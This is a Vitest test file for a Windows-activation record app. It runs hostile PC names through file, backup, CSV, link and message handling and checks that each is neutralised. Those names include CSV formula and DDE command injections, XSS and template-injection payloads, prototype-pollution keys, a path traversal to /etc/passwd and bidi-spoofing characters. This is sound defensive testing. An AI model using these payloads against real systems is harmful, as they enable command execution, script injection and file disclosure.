import { describe, expect, test } from 'vitest'
import { type Activation, type ActivationId, newActivation } from '../../src/domain/activation'
import { takeInstallationId } from '../../src/domain/activation-moves'
import { plainWindows } from '../../src/domain/product'
import { readCsvFile } from '../../src/domain/records/csv-file'
import { writeCsvFile } from '../../src/domain/records/csv-writer'
import { readPastedNames } from '../../src/domain/records/pasted-names'
import { readRecordFile } from '../../src/domain/records/record-file'
import { writeRecordFile } from '../../src/domain/records/record-file-writer'
import { longestName } from '../../src/domain/records/records'
import { nameInText } from '../../src/domain/scan-targets'
import {
  activationFragment,
  linkedActivation,
  parseActivationLink,
} from '../../src/domain/transfer/activation-link'
import { deliveryText } from '../../src/domain/transfer/delivery-text'
import { readBackup } from '../../src/platform/backup/backup-reader'
import { startBackup } from '../../src/platform/backup/backup-writer'
import { parseCsv } from '../../src/workers/csv-text'
import { inventedConfirmationId, inventedInstallationId } from '../stores/invented-ids'
import { foreignFields } from './run-cases'

const names: Readonly<Record<string, string>> = {
  'right to left': 'PC-\u202e10\u202c gpj.exe',
  isolated: '\u2066\u2067PC\u2069-07',
  'nothing visible': '\u200b\u200d\u2060\ufeff',
  'zero width within': 'P\u200bC\u2060-\u00ad07',
  'a hundred thousand characters': 'PC-07 '.repeat(16_667),
  'a hundred thousand combining marks': `P${'\u0301'.repeat(99_999)}`,
  'a formula': '=HYPERLINK("https://example.com/?"&A1,"PC-07")',
  'a formula behind spaces': ' \t=1+1',
  'a formula in full width': '＝1+1',
  'a command': "@SUM(1+1)*cmd|' /C calc'!A0",
  HTML: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(1)</script>',
  template: '{{constructor.constructor("alert(1)")()}}',
  prototype: '__proto__',
  constructor: 'constructor',
  'a method': 'toString',
  quotes: '"\'`',
  'line ends': 'PC-07\r\nPC-08,"\n',
  'half a character': 'PC\ud83d-\ude00',
  'no character': '\u0000\u0007\u001b[2J\uffff',
  'a path': '../../etc/passwd',
  'an address': 'javascript:alert(1)//https://example.com',
}

const installationId = inventedInstallationId()

function named(name: string): Activation {
  const made = newActivation('pc-with-a-name' as ActivationId, name, plainWindows, 1, {
    visitId: null,
    room: name,
  })
  return takeInstallationId(made, installationId)
}

/** What UTF-8 can hold of a text, and a field of a file. */
const kept = (name: string) => name.slice(0, longestName)
const wellFormed = (name: string) => name.replace(/\p{Cs}/gu, '\ufffd')
const invisible = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u

describe.each(Object.entries(names))('a PC named with %s', (_, name) => {
  const records = { visits: [], activations: [named(name)] }
  const json = writeRecordFile(records, { profile: 'full', exportedAt: 0, app: 'x' })

  test('comes back from a file of records, and from a backup', async () => {
    const reading = readRecordFile(json)
    expect(reading).toMatchObject({ kind: 'read', records: { activations: [{ name: kept(name) }] } })
    const begun = await startBackup({ passphrase: 'a song', createdAt: 0, app: 'x', iterations: 1 })
    if (begun.kind !== 'started') throw new Error(begun.kind)
    await begun.backup.add(wellFormed(json))
    const ended = await begun.backup.end()
    if (ended.kind !== 'written') throw new Error(ended.kind)
    const bytes = new Uint8Array(await new Blob(ended.parts).arrayBuffer())
    expect(await readBackup(bytes, { passphrase: 'a song' })).toMatchObject({ text: wellFormed(json) })
  })

  test('comes back from a spreadsheet, in which no cell is a formula', () => {
    const csv = writeCsvFile(records, 'full')
    const { rows } = parseCsv(csv.slice(1), { separator: ',', lineEnd: '\r\n' })
    expect(rows.flat().filter(cell => /^[\s\p{C}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
    expect(rows.every(({ length }) => length <= 1 || length === rows[0]?.length)).toBe(true)
    expect(readCsvFile(csv, parseCsv)).toMatchObject({
      faults: [],
      records: { activations: [{ name: wellFormed(kept(name)) }] },
    })
  })

  test('leaves in a link and a message in one visible line', () => {
    const linked = linkedActivation(records.activations[0] as Activation)
    const fragment = linked && activationFragment([linked])
    expect(fragment).toMatch(/^[\w.=-]{1,2000}$/)
    const link = parseActivationLink(fragment ?? '')
    if (link.kind !== 'activations') throw new Error(link.kind)
    expect(link.activations[0]?.name).not.toMatch(invisible)
    expect(link.activations[0]?.name.length).toBeLessThanOrEqual(80)
    const words = { confirmationId: 'ID', command: () => 'type', digits: 'digits', noSpaces: 'no spaces' }
    const message = deliveryText(
      { name, product: plainWindows, installationId, confirmationId: inventedConfirmationId() },
      { ...words, heading: one => `For ${one}` },
    )
    expect(message.split('\n')[0]).not.toMatch(invisible)
    expect(message.split('\n')).toHaveLength(
      deliveryText(
        { name: 'x', product: plainWindows, installationId, confirmationId: inventedConfirmationId() },
        { ...words, heading: one => `For ${one}` },
      ).split('\n').length,
    )
  })

  test('is listed, or refused with its line', () => {
    const list = readPastedNames(`PC-01\n${name}\nPC-99`)
    if (list.kind !== 'names') throw new Error(list.kind)
    expect(list.pcs.map(pc => pc.name)).toEqual(expect.arrayContaining(['PC-01', 'PC-99']))
    for (const pc of list.pcs) expect(pc.name.length).toBeLessThanOrEqual(longestName)
    for (const fault of list.faults) expect(fault.line).toBeGreaterThan(1)
  })

  test('is found in the text of a code only as itself', () => {
    const found = nameInText(`Computer name: PC-55\nInstallation ID: ${installationId}`, [name, 'PC-55'])
    expect(found).toEqual({ kind: 'known', name: 'PC-55' })
    expect(nameInText(`Installation ID: ${installationId}`, [name])).toEqual({ kind: 'none' })
  })

  test('leaves nothing on all other objects', () => {
    expect(foreignFields()).toEqual([])
    expect(Object.keys(Object.prototype)).toEqual([])
  })
})
